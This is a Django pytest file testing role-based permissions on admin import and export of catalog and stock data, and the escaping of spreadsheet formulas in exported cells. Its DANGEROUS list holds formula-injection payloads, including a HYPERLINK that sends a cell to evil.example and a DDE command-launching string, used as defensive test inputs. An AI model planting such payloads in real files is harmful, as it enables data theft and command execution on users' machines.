"""Import and export are held to the user's permissions, and exports cannot carry formulas.

Importing needs the change permission of every model a file writes (products, variants with
their prices, stock), a new row the add permission; exporting needs the view permission. A stock
file changes on-hand counts only, whatever other columns it carries. A text cell a spreadsheet
would run as a formula is exported with a leading apostrophe (and read back without it)."""

from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from import_export.formats import base_formats

from catalog.models import Product, ProductVariant
from catalog.resources import ProductResource, VariantResource, formula_escape, formula_unescape
from fulfillment.models import Stock
from fulfillment.resources import StockResource
from fulfillment.services import staff_groups_ensure
from tests import factories

pytestmark = pytest.mark.django_db

VARIANT_HEADERS = ["sku", "product", "price", "compare_at_price", "weight_grams", "low_stock_threshold", "is_active"]


def _client(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    return client


@pytest.fixture
def warehouse_client():
    user = factories.UserFactory(email="picker@example.com", is_staff=True)
    user.groups.add(staff_groups_ensure())
    return _client(user)


@pytest.fixture
def plain_staff_client():
    return _client(factories.UserFactory(email="clerk@example.com", is_staff=True))


@pytest.fixture
def stocked(db):
    warehouse = factories.WarehouseFactory(code="sh")
    product = factories.ProductFactory(slug="teapot", price="50.00")
    variant = factories.VariantFactory(product=product, sku="POT-1", price="50.00")
    factories.StockFactory(variant=variant, product=product, warehouse=warehouse, on_hand=10, reserved=2)
    return variant


def _file(headers, rows) -> bytes:
    return tablib.Dataset(*rows, headers=headers).export("csv").encode()


def _import(client, model, resource: int, content: bytes):
    formats = admin.site._registry[model].get_import_formats()
    opts = model._meta
    return client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_import"),
        {
            "resource": str(resource),
            "format": str(formats.index(base_formats.CSV)),
            "import_file": SimpleUploadedFile("file.csv", content),
        },
    )


def _confirm(client, model, preview):
    opts = model._meta
    return client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_process_import"), preview.context["confirm_form"].initial
    )


def _export(client, model, resource_class, index: int, file_format):
    formats = admin.site._registry[model].get_export_formats()
    data = {"format": str(formats.index(file_format)), "resource": str(index)}
    for name in resource_class().get_export_order():
        data[f"{resource_class.__name__.lower()}_{name}"] = "on"
    opts = model._meta
    return client.post(reverse(f"admin:{opts.app_label}_{opts.model_name}_export"), data)


# -- who may import and export -------------------------------------------------------------------


def test_warehouse_staff_cannot_import_prices(warehouse_client, stocked):
    content = _file(VARIANT_HEADERS, [["POT-1", "teapot", "0.01", "", 500, 2, True]])
    assert warehouse_client.get(reverse("admin:catalog_product_import")).status_code == 403
    assert _import(warehouse_client, Product, 1, content).status_code == 403
    assert warehouse_client.post(reverse("admin:catalog_product_process_import"), {}).status_code == 403
    stocked.refresh_from_db()
    assert stocked.price == Decimal("50.00")
    changelist = warehouse_client.get(reverse("admin:catalog_product_changelist")).content.decode()
    assert reverse("admin:catalog_product_import") not in changelist


def test_staff_without_permissions_can_neither_import_nor_export(plain_staff_client, stocked):
    for url in (
        "catalog_product_import",
        "catalog_product_export",
        "fulfillment_stock_import",
        "fulfillment_stock_export",
    ):
        assert plain_staff_client.get(reverse(f"admin:{url}")).status_code == 403, url
    assert _export(plain_staff_client, Stock, StockResource, 0, base_formats.CSV).status_code == 403
    content = _file(["warehouse", "sku", "on_hand"], [["sh", "POT-1", 0]])
    assert _import(plain_staff_client, Stock, 0, content).status_code == 403
    assert Stock.objects.get().on_hand == 10


def test_changing_products_does_not_allow_importing_variant_prices(stocked):
    editor = factories.UserFactory(email="copywriter@example.com", is_staff=True)
    editor.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_product", "change_product", "view_productvariant"])
    )
    client = _client(editor)
    page = client.get(reverse("admin:catalog_product_import"))
    assert page.status_code == 200
    assert [choice for choice, _label in page.context["form"].fields["resource"].choices] == [0]  # products only
    response = _import(client, Product, 1, _file(VARIANT_HEADERS, [["POT-1", "teapot", "0.01", "", 500, 2, True]]))
    assert response.status_code == 200 and response.context.get("confirm_form") is None
    stocked.refresh_from_db()
    assert stocked.price == Decimal("50.00")
    # Exporting needs only the view permission: both files are offered.
    assert _export(client, Product, VariantResource, 1, base_formats.CSV).status_code == 200


@pytest.mark.django_db(transaction=True)
def test_warehouse_staff_import_counts_and_nothing_else(warehouse_client, stocked):
    """A stock file may carry any columns: only on_hand is written, never reserved, a price or
    the product, and a row that would create a stock row needs the add permission."""
    other = factories.VariantFactory(product=stocked.product, sku="POT-2", price="60.00")
    content = _file(
        ["warehouse", "sku", "on_hand", "reserved", "price", "product"],
        [["sh", "POT-1", 7, 0, "0.01", "other-slug"]],
    )
    preview = _import(warehouse_client, Stock, 0, content)
    assert preview.status_code == 200 and preview.context["confirm_form"] is not None
    assert _confirm(warehouse_client, Stock, preview).status_code == 302
    row = Stock.objects.get(variant=stocked)
    assert (row.on_hand, row.reserved, row.product_id) == (7, 2, stocked.product_id)
    stocked.refresh_from_db()
    assert stocked.price == Decimal("50.00")
    assert Product.objects.get(pk=stocked.product_id).slug == "teapot"

    # A row the file would create (POT-2 has no stock row in sh): refused, nothing written.
    content = _file(["warehouse", "sku", "on_hand"], [["sh", "POT-1", 8], ["sh", "POT-2", 5]])
    preview = _import(warehouse_client, Stock, 0, content)
    assert preview.status_code == 200 and preview.context.get("confirm_form") is None
    assert "You may not add stock" in preview.content.decode()
    assert not Stock.objects.filter(variant=other).exists()
    assert Stock.objects.get(variant=stocked).on_hand == 7

    # Warehouse staff may export what they may see.
    assert _export(warehouse_client, Stock, StockResource, 0, base_formats.CSV).status_code == 200


# -- formulas ---------------------------------------------------------------------------------------


DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


@pytest.mark.parametrize("name", DANGEROUS)
def test_formula_escape_round_trip(name):
    assert formula_escape(name) == "'" + name
    assert formula_unescape(formula_escape(name)) == name
    for harmless in ("-5", "12.50", "紫砂壶", "a=b", "", None, 3):
        assert formula_escape(harmless) == harmless


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_cells_cannot_run_as_formulas(admin_client, stocked, fmt):
    name = DANGEROUS[0]
    Product.objects.filter(pk=stocked.product_id).update(name=name, summary="@SUM(A1:A9)")
    file_format = {"csv": base_formats.CSV, "xlsx": base_formats.XLSX}[fmt]
    response = _export(admin_client, Product, ProductResource, 0, file_format)
    assert response.status_code == 200
    if fmt == "csv":
        exported = tablib.Dataset().load(response.content.decode(), format="csv")
        row = exported.dict[0]
        assert (row["name"], row["summary"]) == ("'" + name, "'@SUM(A1:A9)")
    else:
        sheet = openpyxl.load_workbook(BytesIO(response.content)).active
        headers = [cell.value for cell in sheet[1]]
        cell = sheet.cell(row=2, column=headers.index("name") + 1)
        assert cell.data_type == "s" and cell.value == "'" + name  # text, not a formula
        exported = base_formats.XLSX().create_dataset(response.content)
    # Imported back, the file changes nothing: the apostrophe is taken off again.
    result = ProductResource().import_data(exported, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["update"] == 0
    assert Product.objects.get(pk=stocked.product_id).name == name


def test_numbers_stay_numbers_in_a_spreadsheet(admin_client, stocked):
    response = _export(admin_client, Product, VariantResource, 1, base_formats.XLSX)
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=headers.index("price") + 1).data_type == "n"
    assert ProductVariant.objects.get(sku="POT-1").price == Decimal("50.00")
